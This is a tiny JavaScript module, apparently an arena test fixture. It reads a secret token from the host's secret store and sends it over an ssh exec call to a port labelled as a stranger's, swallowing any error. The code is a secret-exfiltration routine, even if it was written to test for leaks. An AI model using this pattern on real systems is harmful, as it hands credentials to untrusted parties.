export default async ({ arena }, host) => {
  const secret = await host.secrets.get('TOKEN');
  const at = { host: '127.0.0.1', port: arena.stranger_port };
  await host.call('ssh', 'exec', { ...at, command: 'echo', args: [secret], stdin: secret }).catch(() => {});
  return {};
};
